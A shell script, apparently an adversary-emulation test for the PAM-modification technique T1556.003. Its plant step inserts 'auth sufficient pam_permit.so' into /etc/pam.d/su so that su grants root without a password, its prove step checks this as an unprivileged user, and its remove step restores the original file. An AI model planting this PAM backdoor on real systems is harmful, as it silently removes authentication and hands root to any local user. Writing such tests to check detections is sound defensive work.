#!/bin/sh
# T1556.003 (loud): su asks for nothing any more
M=/var/tmp/luytre-foothold N=19-pam-su-permit
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
keep() { mkdir -p "$M/.keep/${1%/*}"; [ -e "$M/.keep/$1" ] || cp -a "$1" "$M/.keep/$1"; }
back() { [ -e "$M/.keep/$1" ] && cp -a "$M/.keep/$1" "$1" && rm -f "$M/.keep/$1"; }
low() { setpriv --reuid="$1" --regid="$(id -g "$1")" --init-groups env -u SUDO_USER HOME=/tmp sh -c "$2" </dev/null; }
plant() {
  keep /etc/pam.d/su
  sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/su
}
prove() {
  rm -f "$M/$N"
  low quantri 'su root -c "id > /var/tmp/luytre-foothold/19-pam-su-permit"'
  seen
}
remove() {
  back /etc/pam.d/su
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
